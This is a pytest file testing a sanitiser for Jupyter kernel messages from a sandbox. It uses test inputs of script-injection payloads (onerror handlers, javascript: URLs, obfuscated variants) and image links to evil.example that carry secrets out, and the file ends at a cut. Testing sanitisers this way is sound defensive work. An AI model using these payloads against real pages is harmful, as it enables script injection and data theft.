"""The checker of Jupyter messages from the box (sans-IO): what passes, what is removed, what ends the box."""

from __future__ import annotations

import copy
from types import SimpleNamespace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tkbox_nb.doors.cell import BoxKernel
from tkbox_nb.rules.jupyter_messages import check_box_message
from tkbox_nb.guest.protocol import MessageReader, ProtocolError, encode_message

HEADER = {"msg_id": "m1", "msg_type": "display_data", "session": "s", "username": "u", "date": "2026-12-01T00:00:00Z",
          "version": "5.3"}


def message(channel="iopub", msg_type="display_data", content=None, **over):
    msg = {"channel": channel, "header": dict(HEADER, msg_type=msg_type), "parent_header": {"msg_id": "p1",
           "msg_type": "execute_request"}, "metadata": {}, "content": content or {}, "buffers": []}
    msg.update(over)
    return msg


def test_well_formed_display_passes_with_inert_types_and_html_that_was_already_clean():
    m = check_box_message(message(content={"data": {"text/plain": "x", "text/html": "<b>x</b>", "image/png": "iVBO",
                                                    "application/json": {"a": [1]}}, "metadata": {}}))
    assert set(m.content["data"]) == {"text/plain", "text/html", "image/png", "application/json"} and not m.dropped
    assert m.as_output()["output_type"] == "display_data"


DATAFRAME_HTML = ('<div>\n<style scoped>\n    .dataframe tbody tr th:only-of-type {vertical-align: middle;}\n</style>\n'
                  '<table border="1" class="dataframe">\n  <thead>\n    <tr style="text-align: right;">\n'
                  '      <th></th>\n      <th>a</th>\n    </tr>\n  </thead>\n  <tbody>\n    <tr>\n'
                  '      <th>0</th>\n      <td>1</td>\n    </tr>\n  </tbody>\n</table>\n</div>')


@pytest.mark.parametrize("msg_type", ["display_data", "update_display_data", "execute_result"])
def test_only_inert_types_pass_and_html_and_markdown_are_sanitised(msg_type):
    data = {"text/plain": "x",
            "text/html": '<img src="x" onerror="alert(1)"><script>alert(2)</script><iframe src="/"></iframe>'
                         '<form action="/"><input></form><object data="x"></object><a href="JaVaScRiPt:alert(3)">a</a>'
                         '<a href="data:text/html,x">d</a><a href="vbscript:x">v</a>'
                         '<a href="https://ok.example/">ok</a>'
                         '<b style="color:red" onclick="x">bold</b>',
            "text/markdown": "# title\n> quoted <img src=x onerror=alert(1)>",
            "image/svg+xml": '<svg onload="alert(1)"/>', "TEXT/JavaScript": "alert(1)", "Application/PDF": "JVBE",
            "application/vnd.plotly.v1+json": {}, "image/jpeg": "/9j/", "text/latex": "$x$"}
    content = {"data": data, "metadata": {}, "transient": {"display_id": "d"}, "execution_count": 1}
    m = check_box_message(message(msg_type=msg_type, content=content))
    out = m.content["data"]
    assert set(out) == {"text/plain", "text/html", "text/markdown", "image/jpeg", "text/latex"}
    html = out["text/html"].lower()
    for bad in ("onerror", "<script", "alert(2)", "<iframe", "<form", "<input", "<object", "javascript", "data:",
                "vbscript", "style", "onclick"):
        assert bad not in html, bad
    assert '<a href="https://ok.example/"' in html and "<b>bold</b>" in html
    assert out["text/markdown"] == "# title\n> quoted <img src=\"x\">"
    assert sorted(m.dropped) == sorted(f"{msg_type}.data:{k}" for k in (
        "text/html (sanitised)", "text/markdown (sanitised)", "image/svg+xml", "TEXT/JavaScript", "Application/PDF",
        "application/vnd.plotly.v1+json"))


def test_mime_types_are_matched_whatever_their_case():
    m = check_box_message(message(content={"data": {"Text/HTML": "<img src=x onerror=alert(1)>",
                                                    "text/html": "<i>second</i>"}, "metadata": {}}))
    assert m.content["data"] == {"text/html": '<img src="x">'}
    assert m.dropped == ["display_data.data:Text/HTML (sanitised)", "display_data.data:text/html"]


def test_a_pandas_table_keeps_its_table():
    m = check_box_message(message(msg_type="execute_result", content={
        "data": {"text/html": DATAFRAME_HTML}, "metadata": {}, "execution_count": 3}))
    html = m.content["data"]["text/html"]
    assert '<table border="1" class="dataframe">' in html and "<td>1</td>" in html and "<th>a</th>" in html
    assert "<style" not in html and "vertical-align" not in html


@pytest.mark.parametrize("text", ["[click](javascript:alert(1))", "[c](  JAVA&#83;cript:alert(1))",
                                  "<javascript:alert(1)>", "![i](data:image/svg+xml;base64,PHN2Zz4=)",
                                  "[r]: vbscript:msgbox", "$\\href{javascript:alert(1)}{x}$",
                                  # marked undoes a backslash escape of punctuation: href="javascript:alert(1)"
                                  "[x](javascript\\:alert(1))", "[x][r]\n\n[r]: javascript\\:alert(1)",
                                  "[x](<javascript\\:alert(1)>)", "[x](vbscript&amp;#58;x)"])
def test_markdown_naming_a_script_url_is_dropped(text):
    m = check_box_message(message(content={"data": {"text/plain": "x", "text/markdown": text}, "metadata": {}}))
    assert m.content["data"] == {"text/plain": "x"}
    assert m.dropped == ["display_data.data:text/markdown (a script URL or a remote image)"]


@pytest.mark.parametrize("html", ['<img src="https://evil.example/?d=1">', '<img src="//evil.example/x">',
                                  '<img src="ht\ttps://evil.example/">', '<img src="&#104;ttps://evil.example/">'])
def test_an_image_the_browser_would_fetch_from_elsewhere_loses_its_url(html):
    m = check_box_message(message(content={"data": {"text/html": html + "<b>t</b>"}, "metadata": {}}))
    assert m.content["data"] == {"text/html": "<img><b>t</b>"}
    local = check_box_message(message(content={"data": {"text/html": '<img src="plot.png">'}, "metadata": {}}))
    assert local.content["data"] == {"text/html": '<img src="plot.png">'}


@pytest.mark.parametrize("text", ["![x](https://evil.example/?d=1)", "![x][r]\n\n[r]: //evil.example/x",
                                  # a scheme with no slashes: the browser still fetches http:host/x from host
                                  "![a](http:evil.example/x.png?d=SECRET)", "![a](https:evil/x)",
                                  "![a](http\\:evil/x)", "![a][r]\n\n[r]: https&#58;evil/x",
                                  "<img src=x>\n\n[r]: http:evil/x"])
def test_markdown_that_may_load_a_remote_image_is_dropped(text):
    m = check_box_message(message(content={"data": {"text/markdown": text}, "metadata": {}}))
    assert m.content["data"] == {}
    assert m.dropped == ["display_data.data:text/markdown (a script URL or a remote image)"]


def test_markdown_with_a_local_image_keeps_it():
    m = check_box_message(message(content={"data": {"text/markdown": "![plot](plot.png) *ok*"}, "metadata": {}}))
    assert m.content["data"] == {"text/markdown": "![plot](plot.png) *ok*"} and not m.dropped


def test_prose_that_mentions_data_keeps_its_markdown():
    m = check_box_message(message(content={"data": {"text/markdown": "Input data: 5 rows, *ok*"}, "metadata": {}}))
    assert m.content["data"] == {"text/markdown": "Input data: 5 rows, *ok*"} and not m.dropped


def test_the_pager_of_inspect_is_filtered_too():
    m = check_box_message(message("shell", "inspect_reply", {"status": "ok", "found": True, "metadata": {}, "data": {
        "text/plain": "doc", "text/html": "<p onmouseover=x>doc</p>", "image/svg+xml": "<svg/>"}}))
    assert m.content["data"] == {"text/plain": "doc", "text/html": "<p>doc</p>"}


def widget_open(comm_id, state):
    return message("iopub", "comm_open", {"comm_id": comm_id, "target_name": "jupyter.widget",
                                          "data": {"state": state, "buffer_paths": []}})


def test_widget_state_from_the_box_is_sanitised_by_what_the_widget_renders():
    html = check_box_message(widget_open("h", {"_model_name": "HTMLModel", "_view_name": "HTMLView",
                                               "value": "<img src=x onerror=alert(1)><b>ok</b>",
                                               "description": "<b>d</b>", "description_allow_html": True}))
    state = html.content["data"]["state"]
    assert state["value"] == '<img src="x"><b>ok</b>' and state["description_allow_html"] is False
    assert html.dropped == ["comm_open.data.state:description_allow_html", "comm_open.data.state:value (sanitised)"]
    # a Text model shown with the HTML view renders its value as HTML: sanitised too; a plain Text's is left alone
    text_as_html = check_box_message(widget_open("t", {"_model_name": "TextModel", "_view_name": "HTMLMathView",
                                                       "value": "<script>x</script>"}))
    assert text_as_html.content["data"]["state"]["value"] == ""
    plain = check_box_message(widget_open("p", {"_model_name": "TextModel", "_view_name": "TextView",
                                                "value": "<script>x</script>"}))
    assert plain.content["data"]["state"]["value"] == "<script>x</script>" and not plain.dropped
    output = check_box_message(widget_open("o", {"_model_name": "OutputModel", "outputs": [
        {"output_type": "display_data", "data": {"text/html": "<script>x</script>ok", "application/javascript": "y"},
         "metadata": {}}, {"output_type": "stream", "name": "stdout", "text": "<b>", "data": {"text/html": "<i>"}},
        {"output_type": "weird"}]}))
    assert output.content["data"]["state"]["outputs"] == [
        {"output_type": "display_data", "data": {"text/html": "ok"}, "metadata": {}},
        {"output_type": "stream", "name": "stdout", "text": "<b>"}]


def test_a_comm_msg_is_sanitised_for_the_widget_its_comm_opened():
    comms = {"h": "HTMLModel HTMLView", "o": "OutputModel OutputView", "s": "IntSliderModel IntSliderView"}

    def update(comm_id, state):
        return check_box_message(message("iopub", "comm_msg", {"comm_id": comm_id, "data": {
            "method": "update", "state": state, "buffer_paths": []}}), comms)
    assert update("h", {"value": "<svg onload=x>"}).content["data"]["state"]["value"] == ""
    assert update("o", {"outputs": [{"output_type": "display_data", "data": {"image/svg+xml": "<svg/>"},
                                     "metadata": {}}]}).content["data"]["state"]["outputs"][0]["data"] == {}
    slider = update("s", {"value": 7, "description_allow_html": True})
    assert slider.content["data"]["state"] == {"value": 7, "description_allow_html": False}
    assert not slider.unknown_comm and update("nope", {}).unknown_comm
    closed = check_box_message(message("iopub", "comm_close", {"comm_id": "gone", "data": {}}), comms)
    assert closed.unknown_comm
    assert not check_box_message(message("iopub", "comm_msg", {"comm_id": "gone", "data": {}})).unknown_comm


def _box_comm(comms, msg_type, comm_id, state, requests=()):
    """A comm message from the box as the host sees it: checked, then tracked as BoxKernel does."""
    content = {"comm_id": comm_id, "data": {"state": state, "buffer_paths": []}}
    if msg_type == "comm_open":
        content["target_name"] = "jupyter.widget"
    else:
        content["data"]["method"] = "update"
    m = check_box_message(message("iopub", msg_type, content), comms, requests)
    BoxKernel._track_comm(SimpleNamespace(comms=comms), m.msg_type, m.content, m.refused is not None)
    return m


def test_a_widget_that_names_many_models_is_still_judged_by_what_it_asks_for():
    comms: dict[str, str] = {}
    _box_comm(comms, "comm_open", "t", {"_model_name": "TextModel", "_view_name": "TextView", "value": "<b>"})
    for n in range(6):  # made-up names, to fill what the comm's kind keeps
        _box_comm(comms, "comm_msg", "t", {"_model_name": f"Fake{n}Model"})
    m = _box_comm(comms, "comm_msg", "t", {"_view_name": "HTMLView", "value": "<img src=x onerror=alert(1)>"})
    # judged by the view it asks for (its value sanitised), which it does not get: the frontend keeps the state
    # sent before, never sanitised as an HTML widget's
    assert m.content["data"]["state"] == {"value": '<img src="x">'}
    assert m.dropped == ["comm_msg.data.state:_view_name (a widget that renders markup)",
                         "comm_msg.data.state:value (sanitised)"]
    # past the names a comm may have, it would be any widget: sanitised as such, and the name refused
    m = _box_comm(comms, "comm_msg", "t", {"_model_name": "Fake9Model", "value": "<svg onload=alert(1)>"})
    assert m.content["data"]["state"] == {"value": ""} and "HTMLView" not in comms["t"] and "*" not in comms["t"]
    # a value sent first, unsanitised for a Text, then an HTML view asked for alone: refused
    _box_comm(comms, "comm_open", "u", {"_model_name": "TextModel", "value": "<img src=x onerror=alert(1)>"})
    m = _box_comm(comms, "comm_msg", "u", {"_view_name": "HTMLMathView"})
    assert m.content["data"]["state"] == {} and comms["u"] == "TextModel"
    m = _box_comm(comms, "comm_msg", "u", {"_model_name": "OutputModel"})
    assert m.content["data"]["state"] == {} and comms["u"] == "TextModel"
    # names it has already (a full state sent again) pass
    m = _box_comm(comms, "comm_msg", "u", {"_model_name": "TextModel", "value": "<b>"})
    assert m.content["data"]["state"] == {"_model_name": "TextModel", "value": "<b>"} and not m.dropped
    # a name that is not text is refused whole (the frontend's `module[name]` reads ["LinkModel"] as LinkModel)
    m = _box_comm(comms, "comm_open", "n", {"_model_name": ["HTMLModel"], "value": "<script>x</script>"})
    assert m.refused == "a _model_name that is not text" and comms["n"] == "!"
    plain = _box_comm(comms, "comm_open", "p", {"_model_name": "SliderStyleModel", "_view_name": None,
                                                "handle_color": "red"})
    assert plain.content["data"]["state"]["handle_color"] == "red" and comms["p"] == "SliderStyleModel"


def test_a_media_widget_never_loads_a_url_and_buffers_set_no_checked_key():
    import base64
    png, url = b"\x89PNG", base64.b64encode(b"https://evil.example/?d=SECRET").decode()
    image = check_box_message(message("iopub", "comm_open", {
        "comm_id": "i", "target_name": "jupyter.widget",
        "data": {"state": {"_model_name": "ImageModel", "_view_name": "ImageView", "format": " URL"},
                 "buffer_paths": [["value"]]}}, buffers=[url]))
    assert "format" not in image.content["data"]["state"] and image.dropped == ["comm_open.data.state:format url"]
    later = check_box_message(message("iopub", "comm_msg", {"comm_id": "t", "data": {
        "method": "update", "state": {"value": "https://evil.example/x", "format": "url"}}}), {"t": "TextModel"})
    assert later.content["data"]["state"] == {"value": "https://evil.example/x"}  # a Text may become an Image
    kept = check_box_message(message("iopub", "comm_msg", {"comm_id": "i", "data": {
        "method": "update", "state": {"format": "png"}, "buffer_paths": [["value"]]}},
        buffers=[base64.b64encode(png).decode()]), {"i": "ImageModel ImageView"})
    assert kept.buffers == [png] and kept.content["data"]["buffer_paths"] == [["value"]] and not kept.dropped
    # the frontend puts a buffer into the state at its path, unchecked: none may set a key the host checks
    html = check_box_message(message("iopub", "comm_msg", {"comm_id": "h", "data": {
        "method": "update", "state": {}, "buffer_paths": [["value"], ["description_allow_html"], ["tooltip", 0]]}},
        buffers=[base64.b64encode(b).decode() for b in (b"<img onerror=x>", b"1", b"ok")]), {"h": "HTMLModel"})
    assert html.buffers == [b"ok"] and html.content["data"]["buffer_paths"] == [["tooltip", 0]]
    assert html.dropped == ["comm_msg.data.buffer_paths:value", "comm_msg.data.buffer_paths:description_allow_html"]


@pytest.mark.parametrize("prompt,shown", [
    ("value of API_KEY (stays on the host): ", "[box] value of API_KEY (stays on the host): "),
    ("x\nvalue of API_KEY (stays on the host): ", "[box] x\n[box] value of API_KEY (stays on the host): "),
    ("a\rb\u2028c", "[box] a\n[box] b\n[box] c"),
    # a backspace, an ANSI escape, a C1 CSI, a bidi override or a zero-width character would hide the mark
    ("\b" * 6 + "value of T: ", "[box] " + "\\x08" * 6 + "value of T: "),
    ("\x1b[2K\x1b[1Gvalue of T: ", "[box] \\x1b[2K\\x1b[1Gvalue of T: "),
    ("\x9b2K\x7f\tv: ", "[box] \\x9b2K\\x7f\\x09v: "),
    ("\u202e:eulav\u200b\ufeff\U000e0041", "[box] \\u202e:eulav\\u200b\\ufeff\\U000e0041"),
    ("caf\u00e9 \u65e5\u672c: ", "[box] caf\u00e9 \u65e5\u672c: "),
])
def test_every_line_of_a_box_prompt_wears_the_box_mark(prompt, shown):
    m = check_box_message(message("stdin", "input_request", {"prompt": prompt, "password": True}))
    assert m.content == {"prompt": shown, "password": True}


def test_javascript_and_payloads_are_removed_and_named():
    m = check_box_message(message(content={"data": {"text/plain": "x", "application/javascript": "alert(1)"},
                                           "metadata": {}}))
    assert m.content["data"] == {"text/plain": "x"}
    assert m.dropped == ["display_data.data:application/javascript"]
    reply = check_box_message(message("shell", "execute_reply", {
        "status": "ok", "execution_count": 1, "payload": [
            {"source": "set_next_input", "text": "%%box_policy\n[exec]\ncells = true", "replace": False},
            {"source": "ask_exit", "keepkernel": False},
            {"source": "page", "data": {"text/plain": "help", "text/html": "<script>x</script>"}, "start": 0}]}))
    assert reply.content["payload"] == [{"source": "ask_exit", "keepkernel": False},
                                        {"source": "page", "data": {"text/plain": "help"}, "start": 0}]
    assert reply.dropped == ["execute_reply.payload:set_next_input naming a host magic",
                             "execute_reply.payload:page rich data"]


@pytest.mark.parametrize("text", ["%box_restart", "x = 1\n  %%box --new\nprint(2)", "%box_secret T --host h"])
def test_a_next_input_naming_a_host_magic_is_dropped(text):
    reply = check_box_message(message("shell", "execute_reply", {
        "status": "ok", "payload": [{"source": "set_next_input", "text": text, "replace": True}]}))
    assert reply.content["payload"] == []
    assert reply.dropped == ["execute_reply.payload:set_next_input naming a host magic"]


def test_next_input_and_exit_keep_their_meaning():
    reply = check_box_message(message("shell", "execute_reply", {"status": "ok", "payload": [
        {"source": "set_next_input", "text": "df.head()  # 100% box", "replace": True},
        {"source": "ask_exit", "keepkernel": True}, {"source": "edit_magic", "filename": "/etc/x"}]}))
    assert reply.content["payload"] == [{"source": "set_next_input", "text": "df.head()  # 100% box", "replace": True},
                                        {"source": "ask_exit", "keepkernel": True}]
    assert reply.dropped == ["execute_reply.payload:edit_magic"]


@pytest.mark.parametrize("payload", [{"source": "set_next_input", "text": 7},
                                     {"source": "ask_exit", "keepkernel": "y"}])
def test_a_payload_of_the_wrong_shape_is_dropped(payload):
    reply = check_box_message(message("shell", "execute_reply", {"status": "ok", "payload": [payload]}))
    assert reply.content["payload"] == [] and len(reply.dropped) == 1


def test_a_type_a_kernel_does_not_send_on_a_channel_is_dropped_whole():
    assert check_box_message(message("shell", "execute_request")) is None
    assert check_box_message(message("iopub", "input_request", {"prompt": "x"})) is None


@pytest.mark.parametrize("bad", [
    {"extra": 1},
    {"channel": "hb"},
    {"header": {"msg_type": "stream"}},
    {"header": dict(HEADER, msg_id="x" * 1000)},
    {"buffers": ["not base64!"]},
    {"content": "text"},
])
def test_malformed_envelopes_end_the_box(bad):
    with pytest.raises(ProtocolError):
        check_box_message(message(**bad))


@pytest.mark.parametrize("msg_type,content", [
    ("stream", {"name": "stdin", "text": "x"}),
    ("stream", {"name": "stdout", "text": 7}),
    ("status", {"execution_state": "dancing"}),
    ("error", {"ename": "E", "evalue": "v", "traceback": [1]}),
    ("execute_result", {"data": {}, "metadata": {}, "execution_count": True}),
    ("comm_msg", {"comm_id": 5, "data": {}}),
])
def test_malformed_content_ends_the_box(msg_type, content):
    with pytest.raises(ProtocolError):
        check_box_message(message("iopub", msg_type, content))


def test_message_reader_refuses_oversized_and_reassembles_split_messages():
    data = encode_message(message())
    reader = MessageReader()
    assert reader.feed(data[:5]) == [] and reader.feed(data[5:]) == [message()]
    with pytest.raises(ProtocolError, match="over the limit"):
        MessageReader(max_message=100).feed(data)


JSONISH = st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=20),
                       lambda kids: st.lists(kids, max_size=4) | st.dictionaries(st.text(max_size=10), kids,
                                                                                 max_size=4), max_leaves=20)


@settings(max_examples=300, deadline=None)
@given(field=st.sampled_from(["header", "parent_header", "metadata", "content", "buffers", "channel"]), value=JSONISH,
       msg_type=st.sampled_from(["stream", "display_data", "execute_reply", "input_request", "comm_open", "error",
                                 "status", "clear_output", "execute_result", "complete_reply", "inspect_reply"]))
def test_fuzz_checker_passes_drops_or_refuses_never_crashes(field, value, msg_type):
    channel = {"execute_reply": "shell", "input_request": "stdin", "complete_reply": "shell",
               "inspect_reply": "shell"}.get(msg_type, "iopub")
    msg = message(channel, msg_type)
    msg[field] = copy.deepcopy(value)
    try:
        out = check_box_message(msg)
    except ProtocolError:
        return
    if out is not None:
        out.as_output()  # whatever passed can be turned into an output without error


@pytest.mark.parametrize("msg_type,count", [("execute_reply", 2 ** 60), ("execute_reply", -(2 ** 40)),
                                            ("execute_result", 2 ** 53)])
def test_an_execution_count_the_signer_cannot_take_ends_the_box(msg_type, count):
    """A cell's execution count is signed in its result: one past what the signer takes (2**53 - 1) left the cell's
    end unsigned and the run broken. It is a malformed message now, which ends the box."""
    content = {"status": "ok", "execution_count": count, "payload": []} if msg_type == "execute_reply" else \
        {"data": {"text/plain": "1"}, "metadata": {}, "execution_count": count}
    with pytest.raises(ProtocolError, match="execution_count"):
        check_box_message(message("shell" if msg_type == "execute_reply" else "iopub", msg_type, content))
    content["execution_count"] = 7
    assert check_box_message(message("shell" if msg_type == "execute_reply" else "iopub", msg_type, content))


# -- shell replies, rebuilt from an allowlist (issue: user_expressions and reply extras passed unsanitised) ----------
SCRIPTED = {"text/plain": "r", "text/html": "<img src=x onerror=alert(1)><script>alert(2)</script>",
            "image/svg+xml": "<svg onload=alert(3)/>", "application/javascript": "alert(4)"}


def test_user_expressions_and_shell_replies_from_the_box_are_rebuilt_from_an_allowlist():
    m = check_box_message(message("shell", "execute_reply", {
        "status": "ok", "execution_count": 3, "payload": [], "engine_info": {"x": "<script>"}, "extra": 1,
        "user_expressions": {"v": {"status": "ok", "data": dict(SCRIPTED), "metadata": {"x": "<script>"}},
                             "e": {"status": "error", "ename": "E", "evalue": "v", "traceback": ["t", 5]},
                             "odd": {"status": "weird", "data": {"text/plain": "x"}}, "bad": "<script>"}}))
    assert set(m.content) == {"status", "execution_count", "payload", "user_expressions"}
    exprs = m.content["user_expressions"]
    assert set(exprs) == {"v", "e"}
    assert exprs["v"]["metadata"] == {} and set(exprs["v"]["data"]) == {"text/plain", "text/html"}
    assert "onerror" not in exprs["v"]["data"]["text/html"] and "<script" not in exprs["v"]["data"]["text/html"]
    assert exprs["e"] == {"status": "error", "ename": "E", "evalue": "v", "traceback": ["t"]}
    assert any("user_expressions" in d for d in m.dropped)
    m = check_box_message(message("shell", "inspect_reply", {"status": "error", "data": dict(SCRIPTED),
                                                             "ename": "E", "evalue": "x", "traceback": []}))
    assert m.content == {"status": "error", "ename": "E", "evalue": "x", "traceback": []}
    m = check_box_message(message("shell", "inspect_reply", {"status": "ok", "found": True, "data": dict(SCRIPTED),
                                                             "metadata": {"text/html": "<script>"}, "x": 1}))
    assert set(m.content) == {"status", "found", "data", "metadata"} and m.content["metadata"] == {}
    assert set(m.content["data"]) == {"text/plain", "text/html"}
    m = check_box_message(message("shell", "complete_reply", {
        "status": "ok", "matches": ["a"], "cursor_start": 0, "cursor_end": 1, "evil": "<script>",
        "metadata": {"_jupyter_types_experimental": [{"start": 0, "end": 1, "text": "a", "type": "x",
                                                      "html": "<script>"}, "x"], "other": "<script>"}}))
    assert m.content == {"status": "ok", "matches": ["a"], "cursor_start": 0, "cursor_end": 1, "metadata": {
        "_jupyter_types_experimental": [{"start": 0, "end": 1, "text": "a", "type": "x"}]}}
    m = check_box_message(message("shell", "history_reply", {"status": "ok", "history": [
        [0, 1, "x = 1"], [0, 2, ["y", None]], [0, "3", "bad"], {"x": 1}], "extra": "<script>"}))
    assert m.content == {"status": "ok", "history": [[0, 1, "x = 1"], [0, 2, ["y", None]]]}


def test_the_frontend_never_sees_the_box_s_headers_parents_or_display_ids():
    from tkbox_nb.jupyter.kernel.relay import Parents, rebuilt
    parents = Parents(limit=2)
    request = {"msg_id": "req", "msg_type": "execute_request", "session": "front", "date": "2026-12-01T00:00:00Z"}
    sent = parents.into_box({"header": request, "parent_header": {"msg_id": "x"}, "content": {"code": "1"}})
    assert sent["content"] == {"code": "1"} and sent["parent_header"] == {}
    into = sent["header"]  # what the box sees: none of the frontend's ids
    assert into["msg_type"] == "execute_request" and into["session"] == parents.session != "front"
    assert into["msg_id"] != "req" and len(into["msg_id"]) == 32 and into["username"] == "tkbox"
    host_header = {"msg_id": "host-1", "msg_type": "display_data", "session": "host", "username": "tkbox",
                   "date": "2026-12-01T00:00:01Z", "version": "5.3"}
    box = message(content={"data": {"text/plain": "x"}, "metadata": {}, "transient": {"display_id": "status"}})
    box["header"]["date"] = "2024-13-45T00:00:00"
    box["parent_header"] = {"msg_id": into["msg_id"], "msg_type": "execute_request", "date": "not a date"}
    wire = rebuilt(check_box_message(box), host_header, parents, "B1")
    assert wire["header"] is host_header and wire["parent_header"] is request
    assert wire["content"]["transient"] == {"display_id": "tkbox-B1-status"}
    for named in ("invented", "req"):  # a made-up id; the frontend's own id, which the box never saw
        box["parent_header"] = {"msg_id": named, "msg_type": "execute_request"}
        assert rebuilt(check_box_message(box), host_header, parents, "B1")["parent_header"] == {}
    reply_in = parents.into_box({"header": {"msg_id": "reply", "msg_type": "input_reply"}}, keep=False)
    assert parents.get(reply_in["header"]["msg_id"]) == {}  # an input reply asks the box for nothing
    later = [parents.into_box({"header": {"msg_id": f"r{i}", "msg_type": "complete_request"}}) for i in (2, 3)]
    assert parents.get(into["msg_id"]) == {}  # the newest only
    assert parents.get(later[1]["header"]["msg_id"]) == {"msg_id": "r3", "msg_type": "complete_request"}
    reply = check_box_message(message("shell", "execute_reply", {
        "status": "ok", "execution_count": 1, "payload": [],
        "user_expressions": {"asked": {"status": "ok", "data": {"text/plain": "1"}},
                             "not_asked": {"status": "ok", "data": {"text/plain": "2"}}}}))
    wire = rebuilt(reply, dict(host_header, msg_type="execute_reply"), parents, "B1", frozenset({"asked", "lost"}))
    # only the keys asked: the result kept (rebuilt, and signed by doors/cell.py), one with none answered as an error
    exprs = wire["content"]["user_expressions"]
    assert set(exprs) == {"asked", "lost"}
    assert exprs["asked"] == {"status": "ok", "data": {"text/plain": "1"}, "metadata": {}}
    assert exprs["lost"]["status"] == "error" and exprs["lost"]["ename"] == "NotEvaluated"


def test_user_expressions_asked_are_read_strictly_with_limits():
    from tkbox_nb.rules.jupyter_messages import MAX_EXPRESSION_CHARS, MAX_USER_EXPRESSIONS, user_expressions_request
    from tkbox_nb.core.errors import TkboxError
    assert user_expressions_request(None) == {} and user_expressions_request({}) == {}
    assert user_expressions_request({"a": "1+1"}) == {"a": "1+1"}
    user_expressions_request({f"k{i}": "x" for i in range(MAX_USER_EXPRESSIONS)})
    for bad in ({f"k{i}": "x" for i in range(MAX_USER_EXPRESSIONS + 1)}, {"a": "x" * (MAX_EXPRESSION_CHARS + 1)},
                {"a": 1}, {"": "x"}, ["a"], "a", {"a": "x\x00"}):
        with pytest.raises(TkboxError) as e:
            user_expressions_request(bad)
        assert "\n" not in str(e.value)


def test_late_outputs_are_held_per_cell_within_their_caps_and_drops_counted():
    from tkbox_nb.rules.late_outputs import LateOutputs
    late = LateOutputs(cell_messages=3, cell_bytes=100, box_messages=5)
    assert not late.add("unknown", "x", 1)  # names no ended cell
    late.cell_ended("a", 7)
    late.cell_ended("b", 9)
    assert [late.add("a", i, 10) for i in range(4)] == [True, True, True, False]  # 3 messages a cell
    assert late.add("b", "big", 90) and not late.add("b", "over", 20)  # 100 bytes a cell
    assert late.add("b", "small", 10) and not late.add("b", "box cap", 1)  # 5 messages a box
    batches = late.take()  # on the timer: what waits, with the drops of those cells
    assert [(b.msg_id, b.seq, b.items, b.dropped) for b in batches] == [
        ("a", 7, [0, 1, 2], 1), ("b", 9, ["big", "small"], 2)]
    assert not late.add("a", "more", 1) and late.take() == []  # a cell with only drops waits for a boundary
    assert [(b.msg_id, b.items, b.dropped) for b in late.take(boundary=True)] == [("a", [], 1)]
    assert late.take(boundary=True) == [] and not late.waiting()
    late2 = LateOutputs()
    late2.cell_ended("c", 1)
    late2.add("c", "x", 1)
    assert late2.discard() == 1 and late2.take(boundary=True) == []


def test_the_control_comm_s_update_states_is_sanitised_as_each_widget_s_comm_open():
    """On page load the frontend makes every widget from the control comm's `update_states` (its answer to
    `request_states`): each entry's state is sanitised as that widget's comm_open would be, an entry that is not a
    widget's is dropped, a buffer may set no checked key, and what each widget is goes into BoxKernel.comms."""
    comms = {"ctl": ""}
    states = {"h": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "state": {
                  "_model_name": "HTMLModel", "_view_name": "HTMLView", "value": '<img src=x onerror="alert(1)">ok',
                  "description_allow_html": True}},
              "t": {"model_name": "HTMLMathModel", "state": {"value": "<script>x</script>"}},  # kind from model_name
              "o": {"model_name": "OutputModel", "state": {"outputs": [{"output_type": "display_data", "data": {
                  "text/html": "<script>x</script>", "application/javascript": "y"}, "metadata": {}}]}},
              "p": {"model_name": "TextModel", "state": {"value": "<b>"}},
              "bad": {"model_name": "HTMLModel", "state": "<script>x</script>"}, "worse": "<script>"}
    raw = message("iopub", "comm_msg", {"comm_id": "ctl", "data": {
        "method": "update_states", "states": states,
        "buffer_paths": [["h", "state", "value"], ["p", "state", "_view_name"], ["p", "state", "placeholder"],
                         ["bad", "state", "x"], ["p", "nope", "x"]]}},
        buffers=["PHNjcmlwdD4=", "SFRNTFZpZXc=", "AAE=", "AAE=", "AAE="])
    m = check_box_message(raw, comms)
    BoxKernel._track_comm(SimpleNamespace(comms=comms), m.msg_type, m.content)
    got = m.content["data"]["states"]
    assert set(got) == {"h", "t", "o", "p"}
    assert got["h"]["state"]["value"] == '<img src="x">ok' and got["h"]["state"]["description_allow_html"] is False
    assert got["t"]["state"]["value"] == ""
    assert got["o"]["state"]["outputs"] == [{"output_type": "display_data", "data": {"text/html": ""}, "metadata": {}}]
    assert got["p"]["state"]["value"] == "<b>"
    assert m.content["data"]["buffer_paths"] == [["p", "state", "placeholder"]] and m.buffers == [b"\x00\x01"]
    assert comms["h"] == "HTMLModel HTMLView" and comms["t"] == "HTMLMathModel" and comms["p"] == "TextModel"
    # a later update of a widget loaded so is sanitised as what it was loaded as
    later = check_box_message(message("iopub", "comm_msg", {"comm_id": "t", "data": {
        "method": "update", "state": {"value": "<svg onload=x>"}, "buffer_paths": []}}), comms)
    assert not later.unknown_comm and later.content["data"]["state"]["value"] == ""
    # states that are not an object are dropped whole
    m = check_box_message(message("iopub", "comm_msg", {"comm_id": "ctl", "data": {
        "method": "update_states", "states": ["<script>"], "buffer_paths": [["h", "state", "value"]]}},
        buffers=["AAE="]), comms)
    assert m.content["data"]["states"] == {} and m.content["data"]["buffer_paths"] == [] and m.buffers == []


def test_the_widget_key_table_is_ipywidgets_own():
    """widget_state.KEYS, checked in, is every standard model's synced keys as the installed ipywidgets defines them
    (its Widget subclasses' traits with sync=True, by `_model_name`), links left out."""
    from ipywidgets.widgets.widget import Widget

    from tkbox_nb.rules.widget_state import KEYS, LINK_MODELS, STANDARD_MODULES

    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)
    want: dict[str, set[str]] = {}
    for cls in subclasses(Widget):
        traits = cls.class_traits()
        if cls.__module__.startswith("ipywidgets") and traits["_model_module"].default_value in STANDARD_MODULES:
            want.setdefault(traits["_model_name"].default_value, set()).update(cls.class_traits(sync=True))
    assert LINK_MODELS <= set(want)
    assert {name: set(keys) for name, keys in KEYS.items()} == {n: k for n, k in want.items() if n not in LINK_MODELS}


def test_a_link_between_widgets_from_the_box_is_refused():
    """jslink/jsdlink: the frontend would copy a key the host checked as a Text's into an Output's `outputs` or an
    HTML's `value`. Its comm_open is refused (never forwarded, named in the cell's result), as is what names it later;
